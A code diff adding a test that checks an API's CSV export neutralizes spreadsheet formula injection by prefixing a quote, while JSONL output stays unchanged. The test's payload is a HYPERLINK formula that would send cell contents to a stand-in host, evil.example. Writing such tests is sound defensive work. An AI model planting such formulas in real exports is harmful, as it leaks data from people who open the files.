@@ -74,6 +74,19 @@ def test_csv_text_reads_back_exactly_whatever_it_holds(api):
     assert rows[1]["text"] == tricky
 
 
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_text_a_spreadsheet_would_run_as_a_formula_starts_with_a_quote(api, start):
+    article = Article.objects.get(title="Library wing opens")
+    formula = f'{start}HYPERLINK("https://evil.example/?"&A1,"Open")'
+    Sentence.objects.filter(article=article, order=1).update(text=formula)
+    rows = list(
+        csv.DictReader(io.StringIO(streamed(api.get(f"/api/v1/claims/?format=csv&article={article.pk}"))))
+    )
+    assert rows[1]["text"] == "'" + formula
+    jsonl = streamed(api.get(f"/api/v1/claims/?format=jsonl&article={article.pk}")).splitlines()
+    assert json.loads(jsonl[1])["text"] == formula  # JSON is data, not a spreadsheet: left as it is
+
+
 def test_json_lines_are_the_same_objects_as_the_json_pages(api):
     lines = streamed(api.get("/api/v1/claims/?format=jsonl"))
     assert lines.endswith("\n")
